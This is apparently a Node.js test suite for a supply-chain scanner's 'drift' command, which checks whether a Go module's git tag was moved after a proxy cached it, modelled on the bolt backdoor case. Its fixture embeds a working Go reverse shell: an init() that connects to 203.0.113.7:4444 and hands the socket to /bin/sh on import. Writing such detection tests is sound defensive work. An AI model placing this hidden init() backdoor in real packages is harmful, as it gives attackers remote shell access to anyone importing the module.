// `gosnare drift`: a local git repository whose tag is moved after a file:// proxy cached the
// version (the boltdb-go/bolt attack). Both a local path and a file:// git URL are tried.
import assert from 'node:assert/strict';
import { execFileSync, spawnSync } from 'node:child_process';
import { mkdir, mkdtemp, readdir, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { after, before, test } from 'node:test';
import { fileURLToPath, pathToFileURL } from 'node:url';
import { gitTreeFiles } from '../src/module/drift.js';
import { selectModuleFiles } from '../src/module/module-files.js';
import { buildModuleZip } from './fixtures/modules/zip-writer.js';
const root = fileURLToPath(new URL('../../', import.meta.url));
const cli = path.join(root, 'dist/src/cli/main.js');
const MOD = 'example.test/bolt';
const VERSION = 'v1.3.1';
const BACKDOORED = `package bolt

import (
\t"net"
\t"os/exec"
)

func init() {
\tc, err := net.Dial("tcp", "203.0.113.7:4444")
\tif err == nil {
\t\tcmd := exec.Command("/bin/sh")
\t\tcmd.Stdin, cmd.Stdout = c, c
\t\t_ = cmd.Start()
\t}
}

// Open opens a database.
func Open(path string) error { return nil }
`;
const CLEAN = 'package bolt\n\n// Open opens a database.\nfunc Open(path string) error { return nil }\n';
let work;
let repo;
let env;
function git(...args) {
    return execFileSync('git', ['-C', repo, '-c', 'user.name=t', '-c', 'user.email=t@example.test', '-c', 'commit.gpgsign=false', ...args], { encoding: 'utf8' });
}
async function write(rel, content) {
    await mkdir(path.dirname(path.join(repo, rel)), { recursive: true });
    await writeFile(path.join(repo, rel), content);
}
function gosnare(...args) {
    const r = spawnSync(process.execPath, [cli, ...args], { cwd: root, env, encoding: 'utf8', maxBuffer: 64 << 20 });
    return { code: r.status, stdout: r.stdout, stderr: r.stderr };
}
before(async () => {
    work = await mkdtemp(path.join(tmpdir(), 'gosnare-cli-drift-'));
    repo = path.join(work, 'repo');
    await mkdir(repo);
    git('init', '-q');
    await write('go.mod', `module ${MOD}\n\ngo 1.21\n`);
    await write('bolt.go', BACKDOORED);
    await write('LICENSE', 'MIT\n');
    git('add', '-A');
    git('commit', '-q', '-m', VERSION);
    git('tag', VERSION);
    // The proxy caches the version as tagged now, zipped by Go's rules.
    const { kept } = selectModuleFiles(await gitTreeFiles(repo, VERSION));
    const vdir = path.join(work, 'proxy', MOD, '@v');
    await mkdir(vdir, { recursive: true });
    await writeFile(path.join(vdir, 'list'), `${VERSION}\n`);
    await writeFile(path.join(vdir, `${VERSION}.info`), JSON.stringify({ Version: VERSION, Time: '2024-01-01T00:00:00Z' }));
    await writeFile(path.join(vdir, `${VERSION}.mod`), kept.get('go.mod'));
    await writeFile(path.join(vdir, `${VERSION}.zip`), buildModuleZip(MOD, VERSION, Object.fromEntries(kept)));
    env = {
        ...process.env,
        NO_COLOR: '1',
        GOPROXY: pathToFileURL(path.join(work, 'proxy')).href,
        GONOPROXY: '',
        GOPRIVATE: '',
        GOSNARE_CACHE: path.join(work, 'cache'),
    };
});
after(() => rm(work, { recursive: true, force: true }));
test('the tag still matches the proxy copy: exit 0, same h1 shown', () => {
    const r = gosnare('drift', `${MOD}@${VERSION}`, '--vcs', repo);
    assert.equal(r.code, 0, r.stderr);
    assert.match(r.stdout, /^IDENTICAL: the git tag matches the proxy copy$/m);
    const h1s = [...r.stdout.matchAll(/^ {4}(?:proxy|git): +(h1:\S+)$/gm)].map((m) => m[1]);
    assert.equal(h1s.length, 2);
    assert.equal(h1s[0], h1s[1]);
});
test('a tag moved after the proxy cached the version: exit 1, the differing file and its diff', async () => {
    await write('bolt.go', CLEAN);
    await write('README.md', 'bolt\n');
    git('add', '-A');
    git('commit', '-q', '-m', 'clean');
    git('tag', '-f', VERSION);
    const before = execFileSync('git', ['-C', repo, 'status', '--porcelain'], { encoding: 'utf8' });
    const r = gosnare('drift', `${MOD}@${VERSION}`, '--vcs', repo);
    assert.equal(r.code, 1, r.stderr);
    assert.match(r.stdout, /^DRIFTED: /m);
    assert.match(r.stdout, /^ {2}h1 different$/m);
    assert.match(r.stdout, /^ {2}changed: bolt\.go$/m);
    assert.match(r.stdout, /^ {2}only in git: README\.md$/m);
    assert.match(r.stdout, /^-\tc, err := net\.Dial\("tcp", "203\.0\.113\.7:4444"\)$/m);
    assert.match(r.stdout, /^\+\+\+ git-v1\.3\.1\/README\.md$/m);
    assert.match(r.stdout, /HIGH module-tag-drift: /);
    // A local repository is read in place and left as it was.
    assert.equal(execFileSync('git', ['-C', repo, 'status', '--porcelain'], { encoding: 'utf8' }), before);
});
test('--format json over a file:// git URL: report, findings, patches; the temp clone is removed', async () => {
    const tempsBefore = (await readdir(tmpdir())).filter((n) => n.startsWith('gosnare-vcs-'));
    const r = gosnare('drift', `${MOD}@${VERSION}`, '--vcs', pathToFileURL(repo).href, '--format', 'json');
    assert.equal(r.code, 1, r.stderr);
    const out = JSON.parse(r.stdout);
    assert.equal(out.report.drifted, true);
    assert.notEqual(out.report.gitH1, out.report.proxyH1);
    assert.equal(out.module.h1, out.report.proxyH1);
    assert.equal(out.report.commit, git('rev-parse', `${VERSION}^{commit}`).trim());
    assert.deepEqual(out.report.diff.changed.map((c) => c.file), ['bolt.go']);
    assert.equal(out.findings[0].ruleId, 'module-tag-drift');
    assert.deepEqual(out.oneSidedPatches.map((p) => p.file), ['README.md']);
    const tempsAfter = (await readdir(tmpdir())).filter((n) => n.startsWith('gosnare-vcs-'));
    assert.deepEqual(tempsAfter.sort(), tempsBefore.sort());
});
test('a module in a subdirectory: --subdir picks the sub/<version> tag and Go\'s file selection', async () => {
    const SUB = 'example.test/mono/sub';
    const mono = path.join(work, 'mono');
    await mkdir(path.join(mono, 'sub'), { recursive: true });
    const g = (...args) => execFileSync('git', ['-C', mono, '-c', 'user.name=t', '-c', 'user.email=t@example.test', '-c', 'commit.gpgsign=false', ...args]);
    g('init', '-q');
    await writeFile(path.join(mono, 'LICENSE'), 'MIT\n');
    await writeFile(path.join(mono, 'root.go'), 'package mono\n');
    await writeFile(path.join(mono, 'sub/go.mod'), `module ${SUB}\n`);
    await writeFile(path.join(mono, 'sub/sub.go'), 'package sub\n');
    g('add', '-A');
    g('commit', '-q', '-m', 'sub');
    g('tag', 'sub/v0.1.0');
    const vdir = path.join(work, 'proxy', SUB, '@v');
    await mkdir(vdir, { recursive: true });
    await writeFile(path.join(vdir, 'list'), 'v0.1.0\n');
    await writeFile(path.join(vdir, 'v0.1.0.info'), JSON.stringify({ Version: 'v0.1.0' }));
    await writeFile(path.join(vdir, 'v0.1.0.mod'), `module ${SUB}\n`);
    // As Go zips it: the sub directory, with the repository's LICENSE.
    await writeFile(path.join(vdir, 'v0.1.0.zip'), buildModuleZip(SUB, 'v0.1.0', { 'go.mod': `module ${SUB}\n`, 'sub.go': 'package sub\n', LICENSE: 'MIT\n' }));
    const r = gosnare('drift', `${SUB}@v0.1.0`, '--vcs', mono, '--subdir', './sub/', '--format', 'json');
    assert.equal(r.code, 0, r.stderr);
    const out = JSON.parse(r.stdout);
    assert.equal(out.report.tag, 'sub/v0.1.0');
    assert.equal(out.report.drifted, false);
    assert.equal(out.report.diff.unchanged, 3);
});
test('bad input exits 2: missing tag (path and URL), not a repository, missing --vcs', async () => {
    const noTag = gosnare('drift', `${MOD}@${VERSION}`, '--vcs', repo, '--tag', 'v9.9.9');
    assert.equal(noTag.code, 2);
    assert.match(noTag.stderr, /no tag v9\.9\.9/);
    const noTagUrl = gosnare('drift', `${MOD}@${VERSION}`, '--vcs', pathToFileURL(repo).href, '--tag', 'v9.9.9');
    assert.equal(noTagUrl.code, 2);
    assert.match(noTagUrl.stderr, /no tag v9\.9\.9/);
    const plain = path.join(work, 'plain');
    await mkdir(plain);
    const notRepo = gosnare('drift', `${MOD}@${VERSION}`, '--vcs', plain);
    assert.equal(notRepo.code, 2);
    assert.match(notRepo.stderr, /not a git repository/);
    assert.equal(gosnare('drift', `${MOD}@${VERSION}`).code, 2);
    const insecure = gosnare('drift', `${MOD}@${VERSION}`, '--vcs', 'http://git.example.test/bolt.git');
    assert.equal(insecure.code, 2);
    assert.match(insecure.stderr, /plain http/);
});
//# sourceMappingURL=cli-drift.test.js.map